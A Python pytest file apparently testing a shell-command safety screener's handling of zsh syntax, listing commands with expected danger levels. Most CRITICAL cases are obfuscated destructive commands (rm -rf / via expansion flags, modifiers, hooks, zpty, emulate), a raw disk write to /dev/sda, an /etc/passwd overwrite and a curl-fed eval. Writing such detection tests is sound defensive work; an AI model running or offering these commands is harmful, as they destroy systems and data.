"""What only zsh has: parameter flags, modifiers, short forms, builtins of its modules."""

from __future__ import annotations

import pytest

from cmdgen.core.records import Command, Level
from cmdgen.safety.engine import screen

CRITICAL, HIGH, MODERATE, SAFE = Level.CRITICAL, Level.HIGH, Level.MODERATE, Level.SAFE


def level(text: str, dialect: str) -> Level:
    return screen(Command(text=text, dialect=dialect)).level


@pytest.mark.parametrize(
    ("dialect", "text", "expected"),
    [
        ("zsh", "p=(${(s:.:)${:-rm.-rf.$HOME}}); $p", CRITICAL),
        ("zsh", "p='rm:-rf:/'; ${(s.:.)p}", CRITICAL),
        ("zsh", "p='rm,-rf,/'; ${(@s:,:)p}", CRITICAL),
        ("zsh", "p=rm.-rf./; ${(ps:.:)p}", CRITICAL),
        ("zsh", "p=(rm -rf /); ${(j: :)p}", CRITICAL),
        ("zsh", "p=(rm -rf /); eval ${(j: :)p}", CRITICAL),
        ("zsh", "if [[ -n x ]] { rm -rf / }", CRITICAL),
        ("zsh", "if [[ -n x ]] { ls } elif (( 1 )) { pwd } else { rm -rf / }", CRITICAL),
        ("zsh", "while ((1)) { rm -rf / }", CRITICAL),
        ("zsh", "x=~/foo; rm -rf $x:h", CRITICAL),
        ("zsh", "x=~/a/b; rm -rf ${x:h2}", CRITICAL),
        ("zsh", "rm -rf $HOME:h", CRITICAL),
        ("zsh", "rm -rf ${HOME:h}", CRITICAL),
        ("zsh", "rm -rf $PWD:h:h:h:h", CRITICAL),
        ("zsh", "rm -rf ${x:h}/..", CRITICAL),
        ("zsh", "${(L):-RM} -rf /", CRITICAL),
        ("zsh", "${${:-xrm}#x} -rf /", CRITICAL),
        ("zsh", "rm -rf ${commands[ls]:h}", CRITICAL),
        ("zsh", "${commands[rm]} -rf /", CRITICAL),
        ("zsh", "$commands[rm] -rf /", CRITICAL),
        ("zsh", "foreach x (/etc /usr); rm -rf $x; end", CRITICAL),
        ("zsh", "a=(/ x); rm -rf $a[1]", CRITICAL),
        ("zsh", "a=xrm; $a[2,3] -rf /", CRITICAL),
        ("zsh", "x='$(rm -rf /)'; echo ${(e)x}", CRITICAL),
        ("zsh", "v=x; x='rm -rf /'; eval ${(P)v}", CRITICAL),
        ("zsh", "p=(rm -rf ~); $p", CRITICAL),
        ("zsh", 'eval ${(f)"$(curl x.example)"}', HIGH),
        ("zsh", "${=:-rm -rf /}", CRITICAL),
        ("zsh", "if [[ -f a ]] { cat a }", SAFE),
        ("zsh", "for f in *.txt; do echo ${f:t:r}; done", SAFE),
        ("zsh", "echo ${(j:,:)path}", SAFE),
        ("zsh", "print -l ${(s.:.)PATH}", SAFE),
        ("zsh", "cd $PWD:h", SAFE),
        ("zsh", "echo $PWD:t", SAFE),
        ("zsh", "foreach f (*.c); echo $f; end", SAFE),
        ("zsh", "x=abc; echo $x[1]", SAFE),
        ("zsh", "echo ${(U)USER}", SAFE),
        ("zsh", 'lines=(${(f)"$(ls)"}); print $#lines', SAFE),
        ("zsh", "for k v in ${(kv)opts}; do echo $k $v; done", SAFE),
        ("zsh", "echo ${${(%):-%x}:A:h}", SAFE),
        ("zsh", "if (( $+commands[nvim] )); then alias vim=nvim; fi", SAFE),
        ("zsh", "[[ $OSTYPE == darwin* ]] && echo mac", SAFE),
        ("zsh", "print -P '%F{red}hi%f'", SAFE),
        ("zsh", "while read -r l; do print -r -- $l; done < f", SAFE),
        ("zsh", "add-zsh-hook precmd 'rm -rf /'", CRITICAL),
        ("zsh", "zmodload zsh/zpty; zpty x rm -rf /", CRITICAL),
        ("zsh", "zpty -w x 'rm -rf /'", CRITICAL),
        ("zsh", "zmodload zsh/system; sysopen -w -u 3 /dev/sda; syswrite -o 3 x", CRITICAL),
        ("zsh", "zmodload zsh/mapfile; mapfile[/etc/passwd]=''", CRITICAL),
        ("zsh", "emulate sh -c 'rm -rf /'", CRITICAL),
        ("zsh", "zargs / -- rm -rf", CRITICAL),
        ("zsh", "functions -c rm x; x -rf /", CRITICAL),
        ("zsh", "fc -e 'rm -rf /'", CRITICAL),
        ("zsh", "print -l a b", SAFE),
        ("zsh", "print -rl -- $fpath", SAFE),
        ("zsh", "add-zsh-hook precmd my_precmd", SAFE),
        ("zsh", "emulate -L zsh", SAFE),
        ("zsh", "compdef _git g=git", SAFE),
        ("zsh", "zle -N my-widget", SAFE),
        ("zsh", "fc -l 1 | head", SAFE),
        ("zsh", "autoload -Uz zargs; zargs -- *.txt -- grep foo", SAFE),
    ],
)
def test_zsh_is_read_as_zsh_reads_it(dialect: str, text: str, expected: Level) -> None:
    assert level(text, dialect) is expected
